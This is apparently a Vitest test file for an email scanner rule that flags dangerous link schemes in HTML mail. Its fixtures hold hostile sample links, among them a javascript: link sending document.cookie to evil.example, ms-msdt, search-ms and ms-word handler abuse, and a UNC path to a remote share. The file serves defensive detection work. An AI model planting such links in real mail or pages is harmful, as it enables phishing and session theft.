import { describe, expect, it } from "vitest";
import { LABEL } from "../../../src/core/evidence.js";
import { LINK_DANGEROUS_SCHEME } from "../../../src/core/rules/links/dangerous-scheme.js";
import { findings, htmlMail, only, valuesOf } from "./helpers.js";

const rule = LINK_DANGEROUS_SCHEME;

describe("LINK_DANGEROUS_SCHEME", () => {
  it("fires high for script, data, file and Windows/Office handler schemes", () => {
    const html = [
      `<a href="javascript:fetch('//evil.example/'+document.cookie)">x</a>`,
      `<a href="data:text/html;base64,PGgxPg==">x</a>`,
      `<a href="file:///C:/Windows/System32/calc.exe">x</a>`,
      `<a href="ms-msdt:/id PCWDiagnostic /skip force">x</a>`,
      `<a href="search-ms:query=invoice&crumb=location:\\\\evil.example@80\\share">x</a>`,
      `<a href="ms-word:ofe|u|https://evil.example/doc.docx">x</a>`,
      `<a href="VBScript:msgbox(1)">x</a>`,
    ].join("");
    const finding = only(rule, htmlMail(html));
    expect(finding).toMatchObject({ id: "LINK_DANGEROUS_SCHEME", severity: "high" });
    expect(valuesOf(finding, LABEL.scheme)).toEqual(["javascript:", "data:", "file:", "ms-msdt:", "search-ms:", "ms-word:", "vbscript:"]);
  });

  it("fires for UNC paths and for form actions", () => {
    const finding = only(rule, htmlMail(`<a href="\\\\198.51.100.4\\share\\doc.pdf">資料</a><form action="javascript:steal()"><input name="a"></form>`));
    expect(valuesOf(finding, LABEL.scheme)).toEqual(["\\\\ (UNC)", "javascript:"]);
    expect(valuesOf(finding, LABEL.link)).toEqual(["\\\\198.51.100.4\\share\\doc.pdf", "javascript:steal()"]);
  });

  it("stays quiet for web, mail and phone links and for no-op javascript:void(0)", () => {
    const html = `<a href="https://a.example/">x</a><a href="mailto:a@b.example">x</a><a href="tel:0312345678">x</a><a href="javascript:void(0)">x</a><a href="javascript:;">x</a>`;
    expect(findings(rule, htmlMail(html))).toEqual([]);
  });
});
